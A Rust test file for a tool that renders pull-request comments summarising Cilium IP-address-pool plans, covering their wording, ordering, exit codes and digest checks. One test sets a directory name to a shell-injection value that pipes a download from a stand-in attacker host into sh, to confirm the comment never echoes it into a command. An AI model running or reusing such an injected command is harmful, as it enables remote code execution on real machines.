//! The comment of a pull request as text: what a reader sees first, and that it always fits.

use std::time::Instant;

use cilium_ipam::render::{
    Check, Circumstances, LeftChange, Occasion, Unattended, Verdict, apply_comment, comment,
};
use ipam_core::model::Hazard;
use ipam_plan::plan::{ChangeDocument, PlanDocument, TargetKind};

use super::comment_big::big_plan;
use super::comment_risks::{hidden_move, lost_address};
use super::markdown::{PIECES, assert_text_only, plan, with_text};
use super::support::{
    Folder, KUBERNETES, Ran, TextAssertions, args, cluster, holds, node, pool, repository, run,
};

const AROUND: Circumstances<'static> = Circumstances {
    commit: Some("0123456789abcdef0123456789abcdef01234567"),
    cluster: Some("prod"),
    time: "2026-11-25T20:00:00Z",
    occasion: Occasion::Merge,
    unattended: None,
    check: Some(Check::Passes),
};

pub(super) fn dry_run(folder: &std::path::Path, arguments: &[&str]) -> Ran {
    run(folder, &[&["comment", "--dry-run"], arguments].concat())
}

#[test]
fn a_plan_of_5000_nodes_with_300_refusals_fits_and_begins_with_the_worst() {
    let plan = big_plan();
    let began = Instant::now();
    let page = comment(&plan, &AROUND);
    let took = began.elapsed();
    println!(
        "comment: bytes={} characters={} ms={}",
        page.len(),
        page.chars().count(),
        took.as_millis()
    );
    assert_text_only(&page);
    let lines: Vec<&str> = page.lines().filter(|line| !line.is_empty()).collect();
    let heading = "### `clusters/prod/pools` on `prod`: refused for 300 reasons; ";
    assert!(lines[0].starts_with(heading), "{}", lines[0]);
    let second = "**The apply job will write nothing:** the whole plan is refused by `protected-node` (300 times). Without these refusals, the job would write 5,001 changes: 300 nodes move to another block (a range of Pod addresses) when their agents restart, 4,701 nodes get a block; 1 blocked object stays as it is.";
    assert_eq!(lines[1], second);
    assert_eq!(
        lines[2],
        "**Look at first:** refused by `protected-node`: node `worker-0000.rack.example` would move from `10.100.60.0/24` to `10.100.50.0/24`, and is protected by its annotation `cilium-ipam.io/protected` (300 like this); **fix:** remove the pin, and the node keeps its block; if it is to move, first remove the protection, in a change of its own"
    );
    assert_eq!(
        lines[3],
        "**Riskiest change, if nothing refused it:** node `worker-0000.rack.example` moves from `10.100.60.0/24` to `10.100.50.0/24` when its Cilium agent restarts, pinned by `clusters/prod/pools/pins.yaml:3`; 299 more nodes move like this"
    );
    let order = [
        "<summary>move when their agents restart, 300 nodes",
        "<summary>blocked, 1 node",
        "- **error** `pool-exhausted`: ",
        "<summary>by pool and failure domain, 5,001 changes",
        "digest `",
        "All of it",
        "\n**Pin:** a ",
        "**Protected:** the Policy",
        "**Digest:** a fingerprint",
    ];
    let places: Vec<usize> = order
        .iter()
        .map(|mark| {
            page.find(mark)
                .unwrap_or_else(|| panic!("{mark} in {page}"))
        })
        .collect();
    assert!(places.is_sorted(), "{places:?} in {page}");
    page.assert_lacks("--expect-digest");
    page.assert_has("`cilium-ipam plan clusters/prod/pools --show-all`");
}

#[test]
fn a_plan_without_risk_says_so_and_how_to_apply_exactly_it() {
    let example = repository().join("examples/racks");
    let flags = args("pools --cluster-file cluster.yaml --cluster-name lab");
    let page = dry_run(&example, &flags).expect(0).stdout;
    assert_text_only(&page);
    let first = page.lines().next().unwrap();
    assert_eq!(
        first,
        "### `pools` on `lab`: 7 to assign, 0 moved; 1 unchanged."
    );
    let second = "\n\n**Merging this writes 7 changes:** 7 nodes get a block (a range of Pod addresses); 0 nodes move. No running workload is affected.\n\n**Check:** the job of this comment passes, so it does not stop the merge.\n";
    assert!(page[first.len()..].starts_with(second), "{page}");
    page.assert_lacks("Look at first");
    let undo = "\nOnce written, 7 changes cannot be undone: a node's `spec.podCIDRs` can be written only once.\n";
    page.assert_has(undo);
    let digits = page.split("--expect-digest ").nth(1).unwrap();
    let digits = digits.split('`').next().unwrap();
    let folder = Folder::new(&[]);
    let copy = std::fs::read(example.join("cluster.yaml")).unwrap();
    folder.write("cluster.yaml", copy);
    std::fs::create_dir(folder.join("pools")).unwrap();
    for file in std::fs::read_dir(example.join("pools")).unwrap() {
        let path = file.unwrap().path();
        std::fs::copy(&path, folder.join("pools").join(path.file_name().unwrap())).unwrap();
    }
    let apply = ["apply", "pools", "--cluster-file", "cluster.yaml"];
    let applied = folder.run(&[&apply[..], &["--expect-digest", digits]].concat());
    applied.expect(0);
}

#[test]
fn a_saved_plan_gives_the_comment_of_its_directory_only() {
    let example = repository().join("examples/racks");
    let folder = Folder::new(&[]);
    let file = folder.join("p.json");
    let file = file.to_str().unwrap();
    let plan = ["plan", "pools", "--cluster-file", "cluster.yaml", "--out"];
    run(&example, &[&plan[..], &[file]].concat()).expect(0);
    let saved = dry_run(&example, &["--plan", file, "--directory", "pools"]).expect(0);
    let direct = dry_run(&example, &["pools", "--cluster-file", "cluster.yaml"]).expect(0);
    let without_time = |page: &str| {
        let lines = page.lines().filter(|line| !line.contains("digest"));
        lines.collect::<Vec<_>>().join("\n")
    };
    // A merge applies no plan file.
    let preview = direct.stdout.replace("**Merging this", "**Applying this");
    assert_ne!(preview, direct.stdout);
    assert_eq!(without_time(&saved.stdout), without_time(&preview));

    let other = dry_run(&example, &["--plan", file, "--directory", "others"]).expect(1);
    assert!(
        other
            .stderr
            .contains("the plan was made from `pools`, and --directory asks for `others`"),
        "{}",
        other.stderr
    );
    let both = dry_run(&example, &["pools", "--plan", file]).expect(1);
    both.stderr.assert_has("cannot be used with");
    let edited = folder.read("p.json").replace("10.20.", "10.66.");
    folder.write("edited.json", edited);
    let edited = folder.join("edited.json");
    let refused = dry_run(&example, &["--plan", edited.to_str().unwrap()]).expect(1);
    refused.stderr.assert_has("do not match its digest");
}

#[test]
fn invalid_files_and_fail_on_decide_the_exit_code() {
    let nodes = [node("n1", "a", &holds("10.99.0.0/24"))];
    let folder = Folder::new(&[
        (
            "pools/a.yaml",
            &pool("a", "{cidrs: [10.20.0.0/16], blockSize: 24}"),
        ),
        (
            "bad/a.yaml",
            &pool("a", "{cidrs: [10.20.0.0/99], blockSize: 24}"),
        ),
        ("cluster.json", &cluster("1.19.3", KUBERNETES, &nodes)),
    ]);
    let on = ["--cluster-file", "cluster.json"];
    let bad = dry_run(folder.path(), &[&["bad"], &on[..]].concat()).expect(3);
    let title = "### `bad`: no plan, the files are invalid: 1 error\n";
    assert!(bad.stdout.starts_with(title), "{}", bad.stdout);
    assert_text_only(&bad.stdout);
    let told = "\n\n**Check:** the job of this comment fails (exit code 3) because of invalid files. A branch that requires it does not take the merge.\n";
    bad.stdout.assert_has(told);
    let fails = [&["pools", "--fail-on", "misplaced"], &on[..]].concat();
    let page = dry_run(folder.path(), &fails).expect(2).stdout;
    let told = "\n**Check:** the job of this comment fails (exit code 2) because of misplaced blocks. A branch";
    page.assert_has(told);
    page.assert_has("\n**Look at first:** misplaced: `n1` with `10.99.0.0/24`: ");
    page.assert_has("**fix:**");
    let passes = dry_run(folder.path(), &[&["pools"], &on[..]].concat()).expect(0);
    let told = "\n**Check:** the job of this comment passes, so it does not stop the merge.\n";
    passes.stdout.assert_has(told);
}

/// The job fails like a Terraform job with a violated policy, and like an apply of the plan.
#[test]
fn a_refused_plan_fails_the_job_unless_it_is_to_pass() {
    let example = repository().join("examples/racks");
    let limit = ["pools", "--cluster-file", "cluster.yaml"];
    let limit = [&limit[..], &["--limit", "assign-count=1"]].concat();
    let red = dry_run(&example, &limit).expect(5).stdout;
    let told =
        "\n**Check:** the job of this comment fails (exit code 5) because of a refusal. A branch";
    red.assert_has(told);
    let never = dry_run(&example, &[&limit[..], &["--fail-on", "never"]].concat()).expect(0);
    let told = "\n**Check:** the job of this comment passes with any plan (`--fail-on never`), so it does not stop the merge. Another job may.\n";
    never.stdout.assert_has(told);
    let unlimited = ["pools", "--cluster-file", "cluster.yaml"];
    let blocked = [&unlimited[..], &["--fail-on", "blocked"]].concat();
    let other = dry_run(&example, &blocked).expect(0);
    other
        .stdout
        .assert_has("comment passes, so it does not stop");
}

/// The title counts a change that takes addresses only as a loss, and any other destructive change
/// separately.
#[test]
fn a_destructive_change_beside_a_lost_address_is_in_the_title() {
    let mut plan = plan();
    plan.refusals.clear();
    plan.findings.clear();
    let title = |plan: &PlanDocument| {
        let page = comment(plan, &AROUND);
        page.lines().next().unwrap().to_owned()
    };
    plan.summary.load_balancing.lost_addresses = 1;
    let taker = plan.services.iter_mut().flat_map(|one| &mut one.loses);
    let is_pool = |change: &&ChangeDocument| change.kind == TargetKind::AddressPool;
    let pool = plan.changes.iter().find(is_pool).unwrap().clone();
    taker.for_each(|lost| lost.cause = Some(format!("{}/{}", pool.kind, pool.name)));
    plan.changes
        .retain(|change| change.kind == TargetKind::Node);
    let destructive = |name: &str| ChangeDocument {
        name: name.to_owned(),
        hazard: Hazard::Destructive,
        ..pool.clone()
    };
    plan.changes.push(destructive(&pool.name));
    let alone = title(&plan);
    alone.assert_has(" lost");
    alone.assert_lacks("destructive");
    plan.changes.push(destructive("other"));
    let both = title(&plan);
    both.assert_has("; 1 destructive change;");
}

#[test]
fn a_directory_that_is_no_word_of_a_shell_is_not_in_a_command() {
    let mut plan = plan();
    plan.source.directory = "x; curl evil.example | sh".to_owned();
    let page = comment(&plan, &AROUND);
    page.assert_has("`cilium-ipam plan DIR --show-all`");
    page.assert_lacks("plan x;");
}

#[test]
fn a_comment_takes_text_of_others_as_text_in_every_risk() {
    let whole = plan();
    let mut random = fastrand::Rng::with_seed(20);
    let alone = PIECES.iter().map(|piece| (*piece).to_owned());
    let mixed = (0..60).map(|_| {
        (0..random.usize(2..10))
            .filter_map(|_| random.choice(PIECES))
            .collect::<String>()
    });
    for text in alone.chain(mixed.collect::<Vec<_>>()) {
        // Each step removes the worst risk, so that each one is once the first to look at.
        let mut plan = with_text(whole.clone(), &text);
        let steps: [fn(&mut PlanDocument); 7] = [
            |_| (),
            |plan| plan.services.clear(),
            |plan| plan.changes.retain(|one| one.hazard != Hazard::Destructive),
            |plan| plan.refusals.clear(),
            |plan| plan.findings.clear(),
            |plan| {
                let changes = plan.changes.iter_mut();
                changes.for_each(|change| change.needs_approval.clear());
            },
            |plan| plan.blocked.clear(),
        ];
        for step in steps {
            step(&mut plan);
            let unattended = Unattended {
                changes: 1,
                operator: Some(&text),
            };
            let around = Circumstances {
                commit: Some(&text),
                cluster: Some(&text),
                time: "2026-11-25T20:00:00Z",
                occasion: Occasion::Merge,
                unattended: Some(unattended),
                check: Some(Check::Fails {
                    code: 2,
                    because: &["a refusal", "errors"],
                }),
            };
            assert_text_only(&comment(&plan, &around));
        }
    }
}

#[test]
fn the_outcome_names_the_agents_that_must_restart() {
    let mut plan = plan();
    let outcome = |plan: &PlanDocument| {
        let applied = Verdict::Applied("Applied 4 changes.");
        apply_comment("pools", applied, Some(plan), &AROUND)
    };
    assert!(!outcome(&plan).contains("To do"));
    let mut nodes = plan
        .changes
        .iter_mut()
        .filter(|one| one.kind == TargetKind::Node);
    let first = nodes.next().unwrap();
    first.hazard = Hazard::Disruptive;
    let first_name = first.name.clone();
    let to_do = format!(
        "\n**To do:** restart the Cilium agents of `{}`. They read the new blocks only then.\n",
        first.name
    );
    let text = outcome(&plan);
    assert!(text.contains(&to_do), "{to_do} in {text}");
    assert_text_only(&text);

    let left = LeftChange {
        kind: TargetKind::Node,
        name: first_name.clone(),
        after: Vec::new(),
        why: "refused".to_owned(),
    };
    let in_part = |left: &[LeftChange]| {
        let verdict = Verdict::InPart {
            why: "it failed",
            counts: "Applied 1 change.",
            left,
        };
        apply_comment("pools", verdict, Some(&plan), &AROUND)
    };
    assert!(in_part(&[]).contains(&to_do), "{}", in_part(&[]));
    assert!(!in_part(&[left]).contains("To do"));
}

/// For people who try whether a comment is understood: three in the folder for temporary files of
/// Cargo.
#[test]
#[ignore = "slow: for readers, it writes files and proves nothing"]
fn comments_for_readers_are_written() {
    let out = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"));
    let of_folder = |folder: &Folder| {
        let words = ["pools", "--cluster-file", "cluster.json"];
        dry_run(folder.path(), &words).expect(2).stdout
    };
    let refused = Check::Fails {
        code: 2,
        because: &["a refusal", "errors"],
    };
    let around = Circumstances {
        check: Some(refused),
        ..AROUND
    };
    for (number, text) in [
        comment(&big_plan(), &around),
        of_folder(&hidden_move()),
        of_folder(&lost_address()),
    ]
    .iter()
    .enumerate()
    {
        let file = out.join(format!("comment-{}.md", number + 1));
        std::fs::write(&file, text).unwrap();
        println!("{}", file.display());
    }
}
